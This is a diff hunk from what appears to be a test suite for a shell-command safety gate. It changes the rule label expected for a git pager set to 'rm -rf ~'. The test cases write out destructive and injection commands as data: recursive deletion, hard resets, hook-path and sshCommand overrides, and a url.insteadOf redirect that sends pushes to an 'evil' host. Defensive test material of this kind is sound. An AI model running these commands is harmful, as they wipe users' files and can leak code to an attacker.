@@ -168,7 +168,7 @@ gates('git commands and config', [
   ["git difftool -x 'rm -rf ./src' HEAD", 'fs.rm.recursive-or-force'],
   ["git submodule foreach 'git reset --hard'", 'git.reset.discard'],
   ['git bisect run rm -rf ./src', 'fs.rm.recursive-or-force'],
-  ['git -c core.pager="rm -rf ~" log', 'git.config.injection'],
+  ['git -c core.pager="rm -rf ~" log', 'fs.rm.recursive-or-force'],
   ['git -C repo -c Core.HooksPath=/tmp/h commit -m x', 'git.config.injection'],
   ['git -c url.https://evil/.insteadOf=https://github.com/ push origin topic', 'git.config.injection'],
   ['git -c core.sshCommand=./helper fetch origin', 'git.config.injection'],
